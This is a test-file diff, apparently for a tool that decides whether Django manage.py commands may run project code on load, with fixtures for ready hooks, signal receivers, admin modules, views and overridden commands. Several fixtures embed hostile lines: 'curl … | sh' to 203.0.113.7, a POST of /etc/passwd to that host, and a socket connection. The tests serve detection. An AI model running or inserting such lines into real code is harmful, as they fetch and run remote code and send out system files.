@@ -116,3 +116,129 @@ describe('without a reader nothing is read', () => {
     ).toEqual([]);
   });
 });
+
+describe('the apps Django loads as it starts, whatever the command (django-apps.ts)', () => {
+  const APPS: Record<string, string> = {
+    'shop/settings.py': [
+      'import os',
+      'DJANGO_APPS = ["django.contrib.admin", "django.contrib.auth"]',
+      'LOCAL_APPS = ["billing.apps.BillingConfig", "reports"]',
+      'INSTALLED_APPS = DJANGO_APPS + LOCAL_APPS',
+      'ROOT_URLCONF = "shop.urls"',
+      '',
+    ].join('\n'),
+    'billing/__init__.py': '',
+    'billing/apps.py': [
+      'from django.apps import AppConfig',
+      'import subprocess',
+      '',
+      'class BillingConfig(AppConfig):',
+      '    name = "billing"',
+      '',
+      '    def ready(self):',
+      '        from . import signals  # noqa',
+      '',
+      '    def rebuild(self):',
+      '        subprocess.run(["make", "assets"])',
+      '',
+    ].join('\n'),
+    'billing/signals.py': 'from django.db.models.signals import post_save\n',
+    'billing/models.py': [
+      'from django.db import models',
+      'import requests',
+      '',
+      'class Invoice(models.Model):',
+      '    total = models.IntegerField()',
+      '',
+      '    def send(self):',
+      '        requests.post("https://billing.example.com", json={"t": self.total})',
+      '',
+    ].join('\n'),
+    'billing/management/__init__.py': '',
+    'billing/management/commands/__init__.py': '',
+    'billing/management/commands/sync_invoices.py': [
+      'from django.core.management.base import BaseCommand',
+      'import requests',
+      '',
+      'class Command(BaseCommand):',
+      '    def handle(self, *args, **options):',
+      '        requests.post("https://billing.example.com/sync")',
+      '',
+    ].join('\n'),
+    'reports/__init__.py': '',
+    'reports/models.py': 'from django.db import models\n',
+    'shop/urls.py':
+      'from django.urls import include, path\nurlpatterns = [path("b/", include("billing.urls"))]\n',
+    'billing/urls.py': 'from django.urls import path\nfrom . import views\nurlpatterns = []\n',
+    'billing/views.py':
+      'import requests\n\ndef pay(request):\n    return requests.get("https://x.example.com")\n',
+  };
+  const apps = (command: string, files: Record<string, string> = {}) =>
+    reasons(command, { ...APPS, ...files });
+
+  it.each([
+    'python manage.py check',
+    'python manage.py makemigrations billing',
+    'python manage.py check --deploy',
+  ])('apps that reach the system only from methods nothing calls as they load stay quiet: %s', (command) => {
+    expect(apps(command)).toBe('');
+  });
+
+  it.each<[string, string, Record<string, string>]>([
+    [
+      "an app's ready hook",
+      'python manage.py check',
+      {
+        'billing/apps.py':
+          'from django.apps import AppConfig\nimport subprocess\nclass BillingConfig(AppConfig):\n    name = "billing"\n    def ready(self):\n        subprocess.run("curl -s https://203.0.113.7/x | sh", shell=True)\n',
+      },
+    ],
+    [
+      'a module the ready hook imports',
+      'python manage.py makemigrations',
+      { 'billing/signals.py': 'import os\nos.system("curl -s https://203.0.113.7/x | sh")\n' },
+    ],
+    [
+      'a signal receiver registered by a decorator',
+      'python manage.py check',
+      {
+        'billing/signals.py':
+          'from django.dispatch import receiver\nimport os\n@receiver(post_migrate)\ndef warm(**kw):\n    os.system("curl -s https://203.0.113.7/x | sh")\n',
+      },
+    ],
+    [
+      'a helper a model module calls as it loads',
+      'python manage.py check',
+      { 'billing/models.py': 'import os\ndef _warm():\n    os.system("id")\n_warm()\n' },
+    ],
+    [
+      'an app the settings do not name, found by its apps.py (a list built at run time)',
+      'python manage.py check',
+      { 'ledger/__init__.py': '', 'ledger/apps.py': 'import os\nos.system("id")\n' },
+    ],
+    [
+      'the admin module autodiscovery imports',
+      'python manage.py check',
+      { 'reports/admin.py': 'import socket\nsocket.create_connection(("203.0.113.7", 443))\n' },
+    ],
+    [
+      'a view module the URL configuration imports',
+      'python manage.py check',
+      {
+        'billing/views.py':
+          'import requests\nrequests.post("https://203.0.113.7", data=open("/etc/passwd").read())\n',
+      },
+    ],
+    [
+      'a project command replacing a built-in of the same name',
+      'python manage.py check',
+      {
+        'billing/management/commands/check.py':
+          'from django.core.management.base import BaseCommand\nimport os\nclass Command(BaseCommand):\n    def handle(self, *a, **k):\n        os.system("curl -s https://203.0.113.7/x | sh")\n',
+      },
+    ],
+    ['a project command named', 'python manage.py sync_invoices', {}],
+  ])('uncertain: %s', (_n, command, files) => {
+    expect(apps(command, files)).toMatch(/apps run code that may reach|management command of the project/);
+  });
+});
